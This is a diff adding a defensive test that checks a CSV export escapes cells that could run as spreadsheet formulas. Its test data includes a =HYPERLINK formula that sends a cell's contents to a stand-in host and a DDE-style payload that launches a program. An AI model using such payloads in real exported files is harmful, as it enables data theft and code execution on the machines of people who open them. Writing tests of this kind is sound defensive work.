@@ -146,3 +146,23 @@ def test_post_run_commands_refuse_an_output_with_glob_characters(tmp_path, capsy
         assert err.startswith(f"evalbeam: error: --output {pattern!r} contains the glob "
                               "character(s) *") and "\n" not in err, err
     assert sorted(os.listdir(tmp_path)) == ["out1", "out2"]
+
+
+def test_unpaired_csv_cells_cannot_run_as_formulas(tmp_path):
+    """Item 12: `=HYPERLINK(...)` or `=1+1` went into unpaired.csv as is; OWASP's
+    fix is a leading ' on a cell starting with = + - @ tab or CR."""
+    import csv
+    from pipeline.postrun.compare import Side, compare
+    out = str(tmp_path / "out")
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]
+    write_run(out, "b", "2026-01-01", "bot", IDS[:5] + hostile, np.array(["s"] * 13),
+              {"bleu": np.linspace(0, 1, 13)}, np.array(["PASS"] * 13))
+    write_run(out, "c", "2026-01-02", "bot", IDS[:5], SUITES[:5], {"bleu": _values()[:5]},
+              VERDICTS[:5])
+    c = compare(out, Side("b"), Side("c"))
+    with open(c["unpaired_csv"], newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    got = sorted(r["case_id"] for r in rows)
+    assert got == sorted(("'" + h if h != "plain" else h) for h in hostile), got
+    assert all(r["kind"] == "only_in_baseline" and r["bot"] == "bot" for r in rows)
